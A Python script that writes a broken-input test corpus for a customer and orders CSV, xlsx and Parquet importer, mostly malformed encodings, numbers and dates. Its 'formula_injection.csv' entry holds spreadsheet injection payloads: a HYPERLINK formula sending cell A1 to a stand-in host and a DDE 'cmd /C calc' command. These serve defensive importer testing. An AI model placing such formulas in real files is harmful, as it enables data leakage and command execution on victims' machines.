"""Write the broken-input corpus of tests/data/bad (``python tests/data/bad/make_corpus.py``).

Small files are committed, so a person can open them and run the importer on them by hand; this
script says exactly which bytes they hold (standard library only; fixed timestamps in gzip and zip
headers, so it regenerates the same bytes). Large or binary entries (a 1 MB cell, 10,000 columns,
Parquet files, a directory) are not committed: ``write_generated(directory)`` makes them at test time.
``README.md`` describes every entry and what the importer must do with it.
"""

from __future__ import annotations

import gzip
import io
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent / "formats"))
from make_fixtures import write_xlsx  # noqa: E402  (the minimal xlsx writer of the format fixtures)

STAMP = (2026, 1, 1, 0, 0, 0)
CUSTOMERS = "email,firstName,lastName,dateOfBirth\n"
ORDERS = "id,date,totalValue,customer.email,product.id,product.name,product.price,product.quantity\n"


def _order(oid: str, total: str, price: str = "1", quantity: str = "1", date: str = "2024-11-01") -> str:
    return f"{oid},{date},{total},buyer@example.com,p-{oid},Thing,{price},{quantity}\n"


TEXT: dict[str, bytes] = {
    "empty.csv": b"",
    "blank_lines_only.csv": b"\n\n\r\n\n",
    "header_only.csv": CUSTOMERS.encode(),
    "no_header.csv": b"anna@example.com,Anna,Nowak,1990-01-01\nbob@example.com,Bob,Smith,1985-05-05\n",
    "duplicate_columns.csv": b"email,firstName,email\na@example.com,Anna,b@example.com\n",
    "duplicate_columns_case.csv": b"Email,firstName,EMAIL\na@example.com,Anna,b@example.com\n",
    "blank_column_name.csv": b"email,,firstName\na@example.com,x,Anna\n",
    "ragged_rows.csv": (
        CUSTOMERS + "a@example.com,Anna,Nowak,1990-01-01\nb@example.com,Bob,Smith,1990-01-01,extra\n"
        "c@example.com,Celine\nd@example.com,Dan,Brown,1990-01-01\n"
    ).encode(),
    "unterminated_quote.csv": (
        CUSTOMERS + 'a@example.com,"Anna,Nowak,1990-01-01\nb@example.com,Bob,Smith,1990-01-01\n'
        'c@example.com,"Ce"line,Dion,1990-01-01\nd@example.com,Dan,"Brown,1990-01-01\n'
    ).encode(),
    "unterminated_quote_header.csv": b'email,"firstName,lastName\na@example.com,Anna,Nowak\n',
    "nul_bytes.csv": (
        CUSTOMERS + "a@example.com,An\x00na,Nowak,1990-01-01\nb@exa\x00mple.com,Bob,Smith,1990-01-01\n"
        "c@example.com,Celine,Dion,1990-01-01\n"
    ).encode(),
    "binary_garbage.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\xff\xfe\xfd" * 8,
    "invalid_utf8_middle.csv": (CUSTOMERS + "a@example.com,Zoë,Brontë,1990-01-01\n").encode()
    + b"b@example.com,B\xc3\x28b,Smith,1990-01-01\nc@example.com,Celine,Dion,1990-01-01\n",
    "mixed_encodings.csv": (CUSTOMERS + "a@example.com,Zoë,Brontë,1990-01-01\n").encode("utf-8")
    + "j@example.com,Jörg,Müller,1990-01-01\n".encode("cp1252"),
    "line_endings_mixed.csv": (
        b"email,firstName,lastName,dateOfBirth\r\na@example.com,Anna,Nowak,1990-01-01\n"
        b"b@example.com,Bob,Smith,1990-01-01\rc@example.com,Celine,Dion,1990-01-01\r\n"
        b"d@example.com,Dan,Brown,1990-01-01\n"
    ),
    "cr_only.csv": b"email,firstName\ra@example.com,Anna\rb@example.com,Bob\r",
    "bom_in_middle.csv": (
        "\ufeff" + CUSTOMERS + "a@example.com,\ufeffAnna,Nowak,1990-01-01\n"
        "\ufeffb@example.com,Bob,Smith,1990-01-01\nc@example.com,Celine,Dion,\ufeff1990-01-01\n"
    ).encode(),
    "utf16_without_bom.csv": (CUSTOMERS + "a@example.com,Łukasz,Wiśniewski,1990-01-01\n").encode("utf-16-le"),
    "excel_errors.csv": (
        CUSTOMERS + "#N/A,Anna,Nowak,1990-01-01\nb@example.com,#VALUE!,#REF!,#DIV/0!\n"
        "c@example.com,#NAME?,#NULL!,#NUM!\n"
    ).encode(),
    "scientific_phone.csv": b"phone,firstName\n4.86001E+10,Anna\n+48600100200,Bob\n1e5,Celine\n",
    "scientific_numbers_orders.csv": (
        ORDERS
        + _order("o1", "1.5e2", "7.5E1", "2")
        + _order("o2", "1E3", "1e3")
        + _order("o3", "2.5e-1", "2.5e-1")
        + _order("o4", "1", "1", "1e2")
    ).encode(),
    "huge_number_1e400_orders.csv": (
        ORDERS
        + _order("o1", "1e400")
        + _order("o2", "10", "-1e400")
        + _order("o3", "10", "1", "1e400")
        + _order("o4", "1" + "0" * 400)
        + _order("o5", "10")
    ).encode(),
    "nan_inf_orders.csv": (
        ORDERS
        + _order("o1", "NaN")
        + _order("o2", "inf")
        + _order("o3", "10", "-Infinity")
        + _order("o4", "10", "1", "nan")
        + _order("o5", "+inf")
        + _order("o6", "10")
    ).encode(),
    "negative_zero_orders.csv": (
        ORDERS
        + _order("o1", "-0")
        + _order("o2", "-0.0", "-0.0")
        + _order("o3", "10", "1", "-0")
        + _order("o4", "0", "-0e0")
    ).encode(),
    "dates_before_1900.csv": (
        CUSTOMERS + "a@example.com,Anna,Old,1899-12-31\nb@example.com,Bob,Older,0001-01-01\n"
        "c@example.com,Celine,Zero,0000-01-01\nd@example.com,Dan,Neg,-0001-01-01\n"
        "e@example.com,Eve,Edge,1900-01-01T00:00:00+01:00\n"
    ).encode(),
    "dates_after_9999.csv": (
        CUSTOMERS + "a@example.com,Anna,Last,9999-12-31\nb@example.com,Bob,After,10000-01-01\n"
        "c@example.com,Celine,Plus,+10000-01-01\nd@example.com,Dan,Wrap,9999-12-31T23:30:00-01:00\n"
        "e@example.com,Eve,Huge,99999999-01-01\n"
    ).encode(),
    "dates_after_9999_orders.csv": (
        ORDERS
        + _order("o1", "1", date="9999-12-31T23:59:59Z")
        + _order("o2", "1", date="9999-12-31T23:30:00-01:00")
        + _order("o3", "1", date="10000-01-01")
        + _order("o4", "1", date="1899-12-31")
    ).encode(),
    "leap_days.csv": (
        CUSTOMERS + "a@example.com,Leap,2024,2024-02-29\nb@example.com,Not,2023,2023-02-29\n"
        "c@example.com,Not,1900,1900-02-29\nd@example.com,Leap,2000,2000-02-29\n"
        "e@example.com,Not,2100,2100-02-29\nf@example.com,Leap,Time,2024-02-29T23:59:59+00:00\n"
        "g@example.com,Second,Leap,2016-12-31T23:59:60Z\nh@example.com,Feb,30,2024-02-30\n"
    ).encode(),
    "emoji_rtl.csv": (
        "email,firstName,lastName\nemoji@example.com,Zoë 👩‍👩‍👧‍👦,🇵🇱 Nowak\n"
        "rtl@example.com,محمد,כהן\noverride@example.com,\u202eevil\u202c,A\u200db\n"
        "combining@example.com,Zoe\u0308,Ame\u0301lie\n"
    ).encode(),
    "formula_injection.csv": (
        b"email,firstName,lastName\n"
        b'=1+1,=HYPERLINK("http://x.example/?"&A1;"click"),Nowak\n'
        b"+48 600,+SUM(1;2),-2+3\n"
        b'@evil,@SUM(A1:A9),"\t=1+1"\n'
        b"-not-an-email,\"\r=cmd|' /C calc'!A0\",Smith\n"
    ),
    "control_characters.csv": (
        b"email,firstName,lastName\nesc@example.com,\x1b[31mRed\x1b[0m,Bell\x07\n"
        b"bs@example.com,Back\x08space,Form\x0cfeed\n"
    ),
    "whitespace_cells.csv": (
        "email,firstName,gender\n   ,Anna,Female\n\u00a0\u2003,Bob,Male\n\t,Celine,\u00a0\nd@example.com,\u3000,  \n"
    ).encode(),
    "deep_multiline_cell.csv": (
        CUSTOMERS + 'a@example.com,"' + "line\n" * 2000 + '",Nowak,1990-01-01\nb@example.com,Bob,Smith,1990-01-02\n'
    ).encode(),
    "semicolons_in_comma_file.csv": b"email;firstName;lastName\na@example.com;Anna;Nowak\nb@example.com,Bob,Smith\n",
}


def _gzip(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile("customers.csv", "wb", fileobj=out, mtime=0) as gz:
        gz.write(data)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


_VALID = (CUSTOMERS + "".join(f"c{i}@example.com,Name{i},Surname{i},1990-01-01\n" for i in range(200))).encode()
PACKED: dict[str, bytes] = {
    "truncated.csv.gz": _gzip(_VALID)[:300],
    "not_a_zip.zip": b"PK\x03\x04 this is not really a zip archive",
    "zip_with_two_csvs.zip": _zip({"a.csv": _VALID[:200], "b.csv": _VALID[:200]}),
    "not_really.xlsx": CUSTOMERS.encode() + b"a@example.com,Anna,Nowak,1990-01-01\n",
}

XLSX_ERRORS = [  # cell types of Excel's error values: t="e" (written as formulas whose cached value is the error)
    ["email", "firstName", "dateOfBirth"],
    ["a@example.com", "Anna", ("date", 32874)],
    ["#N/A", "Bob", ("date", 32874)],
    ["c@example.com", ("formula", ("1/0", "#DIV/0!")), ("date", 32874)],
    ["d@example.com", "Dan", ("formula", ("NA()", "#N/A"))],  # an error in a date-typed column
]


def write_committed(directory: Path = HERE) -> list[Path]:
    """Write the small, committed entries into ``directory``."""
    written = []
    for name, data in {**TEXT, **PACKED}.items():
        (directory / name).write_bytes(data)
        written.append(directory / name)
    write_xlsx(directory / "excel_errors.xlsx", [("Customers", XLSX_ERRORS)])
    written.append(directory / "excel_errors.xlsx")
    return written


def write_generated(directory: Path) -> dict[str, Path]:
    """Write the large and binary entries into ``directory`` (a temporary one in the tests)."""
    import polars as pl  # only the Parquet entries need it

    paths: dict[str, Path] = {}

    def put(name: str, data: bytes) -> None:
        paths[name] = directory / name
        paths[name].write_bytes(data)

    put(
        "cell_1mb.csv",
        (
            CUSTOMERS + "a@example.com," + "x" * (1 << 20) + ",Nowak,1990-01-01\nb@example.com,Bob,Smith,1990-01-01\n"
        ).encode(),
    )
    rows = "".join(f"c{i}@example.com,Name{i},Nowak,1990-01-01\n" for i in range(30_000))  # past the 1 MB sample
    put(
        "invalid_utf8_after_1mb.csv",
        (CUSTOMERS + rows).encode()
        + b"bad@example.com,B\xff\xfeb,X,1990-01-01\n"
        + b"z@example.com,Zed,Y,1990-01-01\n",
    )
    names = ["email", *[f"col{i}" for i in range(1, 10_000)]]
    put(
        "columns_10000.csv",
        (
            ",".join(names)
            + "\n"
            + "\n".join(",".join([f"c{r}@example.com", *(str(r * i) for i in range(1, 10_000))]) for r in range(3))
            + "\n"
        ).encode(),
    )
    valid = pl.DataFrame({"email": [f"c{i}@example.com" for i in range(500)], "firstName": ["Anna"] * 500})
    whole = io.BytesIO()
    valid.write_parquet(whole)
    put("truncated.parquet", whole.getvalue()[: len(whole.getvalue()) // 2])
    put("not_parquet.parquet", _VALID)
    typed = pl.DataFrame(
        {
            "email": [1, 2, None],
            "firstName": [[1, 2], [], None],
            "dateOfBirth": [1.5, float("nan"), float("inf")],
            "gender": [True, False, None],
            "consent.1": [3, 0, 1],
        }
    )
    buffer = io.BytesIO()
    typed.write_parquet(buffer)
    put("wrong_types_customers.parquet", buffer.getvalue())
    orders = pl.DataFrame(
        {
            "id": [1, 2, 3],
            "date": [1.0e12, -1.0, None],
            "totalValue": ["ten", "NaN", "1e400"],
            "customer": [{"email": "a@example.com"}, {"email": None}, {"email": "c@example.com"}],
            "products": [[{"id": 1, "name": 2, "price": "x", "quantity": 1.5}], [], None],
        }
    )
    buffer = io.BytesIO()
    orders.write_parquet(buffer)
    put("wrong_types_orders.parquet", buffer.getvalue())
    (directory / "a_directory.csv").mkdir()
    paths["a_directory.csv"] = directory / "a_directory.csv"
    paths["missing.csv"] = directory / "missing.csv"  # never created: a path that does not exist
    return paths


if __name__ == "__main__":
    for path in write_committed():
        print(path.relative_to(HERE.parent.parent.parent))
